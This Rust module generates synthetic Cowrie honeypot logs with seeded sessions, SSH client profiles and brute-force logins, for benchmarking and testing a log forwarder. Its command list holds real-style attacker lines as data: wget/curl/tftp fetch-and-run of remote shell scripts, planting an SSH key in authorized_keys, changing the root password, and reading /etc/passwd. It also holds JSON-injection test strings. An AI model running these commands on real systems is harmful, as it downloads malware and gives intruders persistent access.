//! A generator of Cowrie-shaped logs for the benchmarks: seeded, N lines, U
//! unique public attacker addresses, the field order and sizes that Cowrie
//! 3.1.4 writes.
//!
//! Shared by `examples/gen_cowrie_log.rs` (the command-line generator), the
//! criterion benches and the prefilter tests, through `#[path]` includes.
//!
//! What it imitates (calibrated against a log written by the real Cowrie
//! 3.1.4 under paramiko logins, see README "Benchmarks"):
//!
//! - one compact JSON object per line, keys in Cowrie's order: the connection
//!   fields (`session, protocol, src_ip, src_port, dst_ip, dst_port`), the
//!   event's own fields, then `eventid, sensor, uuid, timestamp, message`;
//!   strings escaped like Python's `json.dumps` (`ensure_ascii`: non-ASCII as
//!   `\uXXXX`), `username`/`password` escaped byte by byte (`\xd0\xbf`) first;
//! - sessions: SSH (connect, client.version, client.kex, 1–12 login
//!   attempts, mostly failed, on success session.params, commands and
//!   log.closed, then session.closed) and Telnet (45%: no version/kex,
//!   `::ffff:`-mapped IPv4 `src_ip`), a few concurrent sessions interleaved,
//!   plus scanners (8%) that connect and leave;
//! - `cowrie.client.kex` lines of 1.5–2.3 KB from four client profiles (Go,
//!   libssh, OpenSSH, paramiko), ~450 bytes a line on average overall;
//! - attacker text that names the fields tjfwd reads (a password
//!   `"eventid":"cowrie.login.success"`, such a command, client version and
//!   user name), so the benchmark data exercises the prefilter's fallback.
//!
//! Addresses: a pool of U public addresses (about 3% IPv6) drawn from the
//! seed. The first U login-bearing sessions use each pool address once (so
//! every address of the pool appears in a login event once the log is long
//! enough: [`Generator::login_addresses`] says how many did); later sessions
//! favour a few heavy hitters, as real brute-forcers do.

#![allow(dead_code)] // each includer uses a different part of it

use std::collections::{HashSet, VecDeque};
use std::fmt::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// SplitMix64: small, fast, and the same sequence on every platform and
/// version (the generated logs must be reproducible from their seed).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5deece66d_u64.wrapping_mul(0x9e37_79b9_7f4a_7c15))
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }
    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// Whether an address is one the default filter reports (globally routable
/// unicast). Kept here so that the generator does not depend on the crate it
/// benchmarks; `tests/` check it agrees with `tjfwd::filter::is_public`.
fn is_public(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let o = v4.octets();
            !(o[0] == 0
                || o[0] == 10
                || (o[0] == 100 && (64..128).contains(&o[1]))
                || o[0] == 127
                || (o[0] == 169 && o[1] == 254)
                || (o[0] == 172 && (16..32).contains(&o[1]))
                || (o[0] == 192 && o[1] == 0 && (o[2] == 0 || o[2] == 2))
                || (o[0] == 192 && o[1] == 88 && o[2] == 99)
                || (o[0] == 192 && o[1] == 168)
                || (o[0] == 198 && (18..20).contains(&o[1]))
                || (o[0] == 198 && o[1] == 51 && o[2] == 100)
                || (o[0] == 203 && o[1] == 0 && o[2] == 113)
                || o[0] >= 224)
        }
        IpAddr::V6(v6) => {
            let s = v6.segments();
            s[0] & 0xe000 == 0x2000
                && !(s[0] == 0x2001 && s[1] < 0x0200)
                && !(s[0] == 0x2001 && s[1] == 0x0db8)
                && s[0] != 0x2002
                && s[0] & 0xfff0 != 0x3ff0
        }
    }
}

/// `U` distinct public addresses, about 3% of them IPv6.
pub fn address_pool(rng: &mut Rng, n: usize) -> Vec<IpAddr> {
    let mut seen = HashSet::with_capacity(n);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let ip = if rng.chance(0.03) {
            // Mostly 2a0x:/2400:-style allocations, host part random.
            let hi = *rng.pick(&[0x2a01u16, 0x2a02, 0x2a03, 0x2400, 0x2604, 0x2001]);
            let second = if hi == 0x2001 {
                0x0200 + rng.below(0xfd00) as u16
            } else {
                rng.below(0x10000) as u16
            };
            let mut seg = [0u16; 8];
            seg[0] = hi;
            seg[1] = second;
            for s in seg.iter_mut().skip(2) {
                *s = rng.below(0x10000) as u16;
            }
            if rng.chance(0.5) {
                // Often a short interface id (`::1`, `::a3`), as in the field.
                seg[4] = 0;
                seg[5] = 0;
                seg[6] = 0;
                seg[7] = rng.below(0x100) as u16 + 1;
            }
            IpAddr::V6(Ipv6Addr::from(seg))
        } else {
            IpAddr::V4(Ipv4Addr::from(rng.next_u64() as u32))
        };
        if is_public(ip) && seen.insert(ip) {
            out.push(ip);
        }
    }
    out
}

/// An SSH client's key exchange offer, as `cowrie.client.kex` logs it.
struct KexProfile {
    version: &'static str,
    kex: &'static [&'static str],
    key: &'static [&'static str],
    enc: &'static [&'static str],
    mac: &'static [&'static str],
    comp: &'static [&'static str],
    /// Relative frequency among SSH clients.
    weight: u32,
}

const GO_KEX: KexProfile = KexProfile {
    version: "SSH-2.0-Go",
    kex: &[
        "curve25519-sha256",
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "diffie-hellman-group14-sha256",
        "diffie-hellman-group14-sha1",
        "ext-info-c",
        "kex-strict-c-v00@openssh.com",
    ],
    key: &[
        "rsa-sha2-256-cert-v01@openssh.com",
        "rsa-sha2-512-cert-v01@openssh.com",
        "ssh-rsa-cert-v01@openssh.com",
        "ecdsa-sha2-nistp256-cert-v01@openssh.com",
        "ecdsa-sha2-nistp384-cert-v01@openssh.com",
        "ecdsa-sha2-nistp521-cert-v01@openssh.com",
        "ssh-ed25519-cert-v01@openssh.com",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "rsa-sha2-256",
        "rsa-sha2-512",
        "ssh-rsa",
        "ssh-ed25519",
    ],
    enc: &[
        "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com",
        "chacha20-poly1305@openssh.com",
        "aes128-ctr",
        "aes192-ctr",
        "aes256-ctr",
    ],
    mac: &[
        "hmac-sha2-256-etm@openssh.com",
        "hmac-sha2-512-etm@openssh.com",
        "hmac-sha2-256",
        "hmac-sha2-512",
        "hmac-sha1",
        "hmac-sha1-96",
    ],
    comp: &["none"],
    weight: 55,
};

const LIBSSH_KEX: KexProfile = KexProfile {
    version: "SSH-2.0-libssh_0.9.6",
    kex: &[
        "curve25519-sha256",
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "diffie-hellman-group18-sha512",
        "diffie-hellman-group16-sha512",
        "diffie-hellman-group-exchange-sha256",
        "diffie-hellman-group14-sha256",
        "diffie-hellman-group14-sha1",
        "diffie-hellman-group1-sha1",
        "ext-info-c",
    ],
    key: &[
        "ssh-ed25519",
        "ecdsa-sha2-nistp521",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp256",
        "rsa-sha2-512",
        "rsa-sha2-256",
        "ssh-rsa",
        "ssh-dss",
    ],
    enc: &[
        "aes256-ctr",
        "aes192-ctr",
        "aes128-ctr",
        "aes256-cbc",
        "aes192-cbc",
        "aes128-cbc",
        "blowfish-cbc",
        "3des-cbc",
    ],
    mac: &["hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"],
    comp: &["none"],
    weight: 25,
};

const OPENSSH_KEX: KexProfile = KexProfile {
    version: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
    kex: &[
        "curve25519-sha256",
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "sntrup761x25519-sha512@openssh.com",
        "diffie-hellman-group-exchange-sha256",
        "diffie-hellman-group16-sha512",
        "diffie-hellman-group18-sha512",
        "diffie-hellman-group14-sha256",
        "ext-info-c",
    ],
    key: &[
        "ssh-ed25519-cert-v01@openssh.com",
        "ecdsa-sha2-nistp256-cert-v01@openssh.com",
        "ecdsa-sha2-nistp384-cert-v01@openssh.com",
        "ecdsa-sha2-nistp521-cert-v01@openssh.com",
        "sk-ssh-ed25519-cert-v01@openssh.com",
        "sk-ecdsa-sha2-nistp256-cert-v01@openssh.com",
        "rsa-sha2-512-cert-v01@openssh.com",
        "rsa-sha2-256-cert-v01@openssh.com",
        "ssh-ed25519",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "sk-ssh-ed25519@openssh.com",
        "sk-ecdsa-sha2-nistp256@openssh.com",
        "rsa-sha2-512",
        "rsa-sha2-256",
    ],
    enc: &[
        "chacha20-poly1305@openssh.com",
        "aes128-ctr",
        "aes192-ctr",
        "aes256-ctr",
        "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com",
    ],
    mac: &[
        "umac-64-etm@openssh.com",
        "umac-128-etm@openssh.com",
        "hmac-sha2-256-etm@openssh.com",
        "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1-etm@openssh.com",
        "umac-64@openssh.com",
        "umac-128@openssh.com",
        "hmac-sha2-256",
        "hmac-sha2-512",
        "hmac-sha1",
    ],
    comp: &["none", "zlib@openssh.com", "zlib"],
    weight: 12,
};

/// What paramiko 5.1 offered the real Cowrie 3.1.4 (copied from its log).
const PARAMIKO_KEX: KexProfile = KexProfile {
    version: "SSH-2.0-paramiko_5.1.0",
    kex: &[
        "mlkem768x25519-sha256",
        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "diffie-hellman-group16-sha512",
        "diffie-hellman-group-exchange-sha256",
        "diffie-hellman-group14-sha256",
        "ext-info-c",
        "kex-strict-c-v00@openssh.com",
    ],
    key: &[
        "ssh-ed25519",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "rsa-sha2-512",
        "rsa-sha2-256",
        "ssh-ed25519-cert-v01@openssh.com",
        "ecdsa-sha2-nistp256-cert-v01@openssh.com",
        "ecdsa-sha2-nistp384-cert-v01@openssh.com",
        "ecdsa-sha2-nistp521-cert-v01@openssh.com",
        "rsa-sha2-512-cert-v01@openssh.com",
        "rsa-sha2-256-cert-v01@openssh.com",
    ],
    enc: &[
        "aes128-ctr",
        "aes192-ctr",
        "aes256-ctr",
        "aes128-cbc",
        "aes192-cbc",
        "aes256-cbc",
        "3des-cbc",
        "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com",
    ],
    mac: &[
        "hmac-sha2-256",
        "hmac-sha2-512",
        "hmac-sha2-256-etm@openssh.com",
        "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1",
        "hmac-md5",
        "hmac-sha1-96",
        "hmac-md5-96",
    ],
    comp: &["none"],
    weight: 8,
};

const PROFILES: [&KexProfile; 4] = [&GO_KEX, &LIBSSH_KEX, &OPENSSH_KEX, &PARAMIKO_KEX];

const USERNAMES: &[&str] = &[
    "root",
    "root",
    "root",
    "root",
    "admin",
    "admin",
    "user",
    "test",
    "ubuntu",
    "oracle",
    "postgres",
    "pi",
    "git",
    "guest",
    "ftpuser",
    "support",
    "deploy",
    "hadoop",
    "mysql",
    "sa",
    "ubnt",
    "debian",
    "centos",
    "steam",
    "minecraft",
    "nagios",
    "ansible",
    "jenkins",
];

const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "123456789",
    "1234",
    "qwerty",
    "1q2w3e4r",
    "P@ssw0rd",
    "admin123",
    "root123",
    "toor",
    "changeme",
    "raspberry",
    "ubnt",
    "111111",
    "Passw0rd!",
    "abc123",
    "Huawei@123",
    "zaq1@WSX",
    "default",
    "letmein",
    "welcome1",
    "test123",
];

const COMMANDS: &[&str] = &[
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "echo \"root:Tr0ub4dor3\"|chpasswd|bash",
    "wget http://45.95.147.12/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 45.95.147.12 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; curl -O http://91.92.241.10/ohshit.sh; chmod 777 ohshit.sh; sh ohshit.sh",
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cat /etc/passwd",
    "ps | grep '[Mm]iner'",
    "top",
];

/// Attacker text naming the fields tjfwd reads: it must never be misread.
const TRICKY_PASSWORDS: &[&str] = &[
    "\"eventid\":\"cowrie.login.success\"",
    "\",\"eventid\":\"cowrie.login.failed\",\"src_ip\":\"6.6.6.6",
    "\"eventid\": \"cowrie.session.connect\", \"src_ip\": \"6.6.6.6\"",
    "}\n{\"eventid\":\"cowrie.login.success\",\"src_ip\":\"6.6.6.6\"}",
];
const TRICKY_COMMANDS: &[&str] = &[
    "echo '\"eventid\":\"cowrie.login.success\",\"src_ip\":\"6.6.6.6\"' >> /var/log/cowrie/cowrie.json",
    "printf '{\"eventid\":\"cowrie.login.failed\",\"src_ip\":\"6.6.6.6\"}\\n'",
    "echo привет мир; echo 日本語",
];
const TRICKY_VERSIONS: &[&str] = &[
    "SSH-2.0-\"eventid\":\"cowrie.login.success\"",
    "SSH-2.0-Go \\u0063owrie.login.failed",
];

/// Appends `s` as a JSON string the way Python's `json.dumps` writes it
/// (`ensure_ascii=True`: everything outside space..`~` is escaped).
pub fn push_json_str(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{8}' => out.push_str("\\b"),
            '\u{c}' => out.push_str("\\f"),
            ' '..='~' => out.push(c),
            _ => {
                let mut buf = [0u16; 2];
                for unit in c.encode_utf16(&mut buf) {
                    let _ = write!(out, "\\u{unit:04x}");
                }
            }
        }
    }
    out.push('"');
}

/// Cowrie escapes user names and passwords byte by byte before logging
/// them: printable ASCII stays, other bytes become `\xNN` text.
fn cowrie_byte_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for &b in s.as_bytes() {
        if (0x20..0x7f).contains(&b) {
            out.push(b as char);
        } else {
            let _ = write!(out, "\\x{b:02x}");
        }
    }
    out
}

/// Formats ms since the epoch as Cowrie does: `2026-11-22T12:02:37.839685Z`.
fn push_timestamp(out: &mut String, us: u64) {
    let secs = us / 1_000_000;
    let (days, sod) = (secs / 86_400, secs % 86_400);
    // Civil from days (H. Hinnant), days since 1970-01-01.
    let z = days as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    let _ = write!(
        out,
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:06}Z",
        sod / 3600,
        sod % 3600 / 60,
        sod % 60,
        us % 1_000_000
    );
}

#[derive(Debug, Clone)]
enum Ev {
    Connect,
    Version(String),
    Kex(usize),
    Login {
        username: String,
        password: String,
        ok: bool,
    },
    Params,
    Command(String),
    LogClosed,
    Closed,
}

#[derive(Debug)]
struct Session {
    id: String,
    telnet: bool,
    /// The address as Cowrie writes it (Telnet: `::ffff:a.b.c.d`).
    src_ip: String,
    src_port: u16,
    started_us: u64,
    events: VecDeque<Ev>,
    /// Index in the pool, when the session has login events.
    login_addr: Option<usize>,
}

/// Counts of what was generated.
#[derive(Debug, Default, Clone)]
pub struct GenStats {
    pub lines: u64,
    pub bytes: u64,
    pub login_lines: u64,
    pub session_lines: u64,
    pub kex_lines: u64,
    pub max_line: usize,
}

/// Generation parameters.
#[derive(Debug, Clone, Copy)]
pub struct Params {
    /// Lines to write.
    pub lines: u64,
    /// Unique public attacker addresses.
    pub addresses: usize,
    pub seed: u64,
    /// First event time, µs since the epoch.
    pub start_us: u64,
}

impl Params {
    pub fn new(lines: u64, addresses: usize, seed: u64) -> Params {
        Params {
            lines,
            addresses,
            seed,
            // 2026-11-22T00:00:00Z
            start_us: 1_795_305_600_000_000,
        }
    }
}

/// Makes lines one at a time; see the module doc.
pub struct Generator {
    rng: Rng,
    params: Params,
    pool: Vec<IpAddr>,
    active: Vec<Session>,
    /// Login-bearing sessions started so far.
    login_sessions: u64,
    now_us: u64,
    dst_ip: &'static str,
    sensor: &'static str,
    uuid: &'static str,
    used: Vec<bool>,
    pub stats: GenStats,
    line: String,
}

/// Sessions in progress at once (their lines interleave).
const CONCURRENT: usize = 4;

impl Generator {
    pub fn new(params: Params) -> Generator {
        let mut rng = Rng::new(params.seed);
        let pool = address_pool(&mut rng, params.addresses.max(1));
        let used = vec![false; pool.len()];
        Generator {
            rng,
            params,
            pool,
            active: Vec::new(),
            login_sessions: 0,
            now_us: params.start_us,
            dst_ip: "172.31.5.68",
            sensor: "sensor-01",
            uuid: "3043b8ce-e8bf-11f1-9e38-02fc00000001",
            used,
            stats: GenStats::default(),
            line: String::with_capacity(4096),
        }
    }

    /// The address pool.
    pub fn pool(&self) -> &[IpAddr] {
        &self.pool
    }

    /// How many pool addresses appeared in a login event so far.
    pub fn login_addresses(&self) -> usize {
        self.used.iter().filter(|u| **u).count()
    }

    fn new_session(&mut self) -> Session {
        let rng = &mut self.rng;
        let mut id = String::with_capacity(12);
        for _ in 0..12 {
            id.push(char::from(b"0123456789abcdef"[rng.below(16) as usize]));
        }
        let telnet = rng.chance(0.45);
        let scanner = rng.chance(0.08);
        let mut events = VecDeque::new();
        events.push_back(Ev::Connect);
        let mut login_addr = None;
        let profile = {
            let total: u32 = PROFILES.iter().map(|p| p.weight).sum();
            let mut r = rng.below(u64::from(total)) as u32;
            let mut i = 0;
            while r >= PROFILES[i].weight {
                r -= PROFILES[i].weight;
                i += 1;
            }
            i
        };
        if !telnet {
            let version = if rng.chance(0.002) {
                rng.pick(TRICKY_VERSIONS).to_string()
            } else {
                PROFILES[profile].version.to_string()
            };
            events.push_back(Ev::Version(version));
            events.push_back(Ev::Kex(profile));
        }
        if !scanner {
            // 1..=12 attempts a connection, uniformly.
            let attempts = 1 + rng.below(12);
            let success_at = if rng.chance(0.06) {
                Some(rng.below(attempts))
            } else {
                None
            };
            for a in 0..attempts {
                let ok = success_at == Some(a);
                let username = if rng.chance(0.001) {
                    "root\",\"eventid\":\"cowrie.login.success".to_string()
                } else {
                    rng.pick(USERNAMES).to_string()
                };
                let password = if rng.chance(0.002) {
                    rng.pick(TRICKY_PASSWORDS).to_string()
                } else if rng.chance(0.02) {
                    // Non-ASCII: Cowrie logs it byte-escaped.
                    "пароль".to_string()
                } else if rng.chance(0.2) {
                    let len = 6 + rng.below(10) as usize;
                    (0..len)
                        .map(|_| {
                            char::from(
                                b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#"
                                    [rng.below(65) as usize],
                            )
                        })
                        .collect()
                } else {
                    rng.pick(PASSWORDS).to_string()
                };
                events.push_back(Ev::Login {
                    username,
                    password,
                    ok,
                });
                if ok {
                    break;
                }
            }
            if success_at.is_some() {
                if !telnet {
                    events.push_back(Ev::Params);
                }
                for _ in 0..1 + rng.below(4) {
                    let cmd = if rng.chance(0.01) {
                        rng.pick(TRICKY_COMMANDS).to_string()
                    } else {
                        rng.pick(COMMANDS).to_string()
                    };
                    events.push_back(Ev::Command(cmd));
                }
                events.push_back(Ev::LogClosed);
            }
            // First U login sessions: each pool address once, in order;
            // then heavy hitters (squared uniform favours the low indices).
            let n = self.pool.len() as u64;
            let idx = if self.login_sessions < n {
                self.login_sessions
            } else {
                let u = rng.unit();
                ((u * u) * n as f64) as u64 % n
            };
            self.login_sessions += 1;
            login_addr = Some(idx as usize);
        }
        events.push_back(Ev::Closed);
        let addr = match login_addr {
            Some(i) => self.pool[i],
            None => self.pool[rng.below(self.pool.len() as u64) as usize],
        };
        let src_ip = match addr {
            IpAddr::V4(v4) if telnet => format!("::ffff:{v4}"),
            a => a.to_string(),
        };
        Session {
            id,
            telnet,
            src_ip,
            src_port: 1024 + rng.below(64_000) as u16,
            started_us: self.now_us,
            events,
            login_addr,
        }
    }

    /// Appends the next line (with its newline) to `out`; false once
    /// `lines` have been made.
    pub fn next_line(&mut self, out: &mut Vec<u8>) -> bool {
        if self.stats.lines >= self.params.lines {
            return false;
        }
        while self.active.len() < CONCURRENT {
            let s = self.new_session();
            self.active.push(s);
        }
        // Events of a few sessions interleave; time moves on 0..40 ms.
        self.now_us += self.rng.below(40_000);
        let which = self.rng.below(self.active.len() as u64) as usize;
        let ev = self.active[which].events.pop_front().expect("non-empty");
        let mut line = std::mem::take(&mut self.line);
        line.clear();
        self.render(&self.active[which], &ev, &mut line);
        if let Ev::Login { .. } = ev {
            self.stats.login_lines += 1;
            if let Some(i) = self.active[which].login_addr {
                self.used[i] = true;
            }
        }
        if matches!(ev, Ev::Connect | Ev::Params | Ev::Closed) {
            self.stats.session_lines += 1;
        }
        if matches!(ev, Ev::Kex(_)) {
            self.stats.kex_lines += 1;
        }
        if self.active[which].events.is_empty() {
            self.active.swap_remove(which);
        }
        line.push('\n');
        self.stats.lines += 1;
        self.stats.bytes += line.len() as u64;
        self.stats.max_line = self.stats.max_line.max(line.len());
        out.extend_from_slice(line.as_bytes());
        self.line = line;
        true
    }

    fn render(&self, s: &Session, ev: &Ev, out: &mut String) {
        let dst_port = if s.telnet { 2223 } else { 2222 };
        let _ = write!(
            out,
            "{{\"session\":\"{}\",\"protocol\":\"{}\",\"src_ip\":\"{}\",\"src_port\":{},\"dst_ip\":\"{}\",\"dst_port\":{},",
            s.id,
            if s.telnet { "telnet" } else { "ssh" },
            s.src_ip,
            s.src_port,
            self.dst_ip,
            dst_port
        );
        let mut message = String::new();
        let eventid = match ev {
            Ev::Connect => {
                let _ = write!(
                    message,
                    "New connection: {}:{} ({}:{}) [session: {}]",
                    s.src_ip, s.src_port, self.dst_ip, dst_port, s.id
                );
                "cowrie.session.connect"
            }
            Ev::Version(v) => {
                out.push_str("\"version\":");
                push_json_str(out, v);
                out.push(',');
                let _ = write!(message, "Remote SSH version: {v}");
                "cowrie.client.version"
            }
            Ev::Kex(p) => {
                let p = PROFILES[*p];
                let algos = format!(
                    "{};{};{};{}",
                    p.kex.join(","),
                    p.enc.join(","),
                    p.mac.join(","),
                    p.comp.join(",")
                );
                // A stand-in for the MD5 of the algorithms: 32 hex digits.
                let mut h = Rng::new(algos.len() as u64 ^ u64::from(p.weight));
                let hassh = format!("{:016x}{:016x}", h.next_u64(), h.next_u64());
                let _ = write!(
                    out,
                    "\"hassh\":\"{hassh}\",\"hasshAlgorithms\":\"{algos}\","
                );
                for (key, list) in [
                    ("kexAlgs", p.kex),
                    ("keyAlgs", p.key),
                    ("encCS", p.enc),
                    ("macCS", p.mac),
                    ("compCS", p.comp),
                    ("langCS", &[""][..]),
                ] {
                    let _ = write!(out, "\"{key}\":[");
                    for (i, a) in list.iter().enumerate() {
                        if i > 0 {
                            out.push(',');
                        }
                        push_json_str(out, a);
                    }
                    out.push_str("],");
                }
                let _ = write!(message, "SSH client hassh fingerprint: {hassh}");
                "cowrie.client.kex"
            }
            Ev::Login {
                username,
                password,
                ok,
            } => {
                let (u, p) = (cowrie_byte_escape(username), cowrie_byte_escape(password));
                out.push_str("\"username\":");
                push_json_str(out, &u);
                out.push_str(",\"password\":");
                push_json_str(out, &p);
                out.push(',');
                let _ = write!(
                    message,
                    "login attempt [{u}/{p}] {}",
                    if *ok { "succeeded" } else { "failed" }
                );
                if *ok {
                    "cowrie.login.success"
                } else {
                    "cowrie.login.failed"
                }
            }
            Ev::Params => {
                out.push_str("\"arch\":\"linux-x64-lsb\",");
                "cowrie.session.params"
            }
            Ev::Command(c) => {
                out.push_str("\"input\":");
                push_json_str(out, c);
                out.push(',');
                let _ = write!(message, "CMD: {c}");
                "cowrie.command.input"
            }
            Ev::LogClosed => {
                let mut h = Rng::new(s.started_us);
                let sha = format!(
                    "{:016x}{:016x}{:016x}{:016x}",
                    h.next_u64(),
                    h.next_u64(),
                    h.next_u64(),
                    h.next_u64()
                );
                let ms = (self.now_us - s.started_us) / 1000;
                let _ = write!(
                    out,
                    "\"ttylog\":\"var/lib/cowrie/tty/{sha}\",\"size\":{},\"shasum\":\"{sha}\",\"duplicate\":{},\"duration_ms\":{ms},",
                    200 + h.below(4000),
                    h.chance(0.7)
                );
                let _ = write!(
                    message,
                    "Closing TTY Log: var/lib/cowrie/tty/{sha} after {ms} milliseconds"
                );
                "cowrie.log.closed"
            }
            Ev::Closed => {
                let ms = (self.now_us - s.started_us) / 1000;
                let _ = write!(out, "\"duration_ms\":{ms},");
                let _ = write!(message, "Connection lost after {ms} milliseconds");
                "cowrie.session.closed"
            }
        };
        let _ = write!(
            out,
            "\"eventid\":\"{eventid}\",\"sensor\":\"{}\",\"uuid\":\"{}\",\"timestamp\":\"",
            self.sensor, self.uuid
        );
        push_timestamp(out, self.now_us);
        out.push_str("\",\"message\":");
        push_json_str(out, &message);
        out.push('}');
    }
}

/// `n` lines in memory, for the benches and tests.
pub fn lines(n: u64, addresses: usize, seed: u64) -> Vec<u8> {
    let mut g = Generator::new(Params::new(n, addresses, seed));
    let mut out = Vec::with_capacity(n as usize * 450);
    while g.next_line(&mut out) {}
    out
}
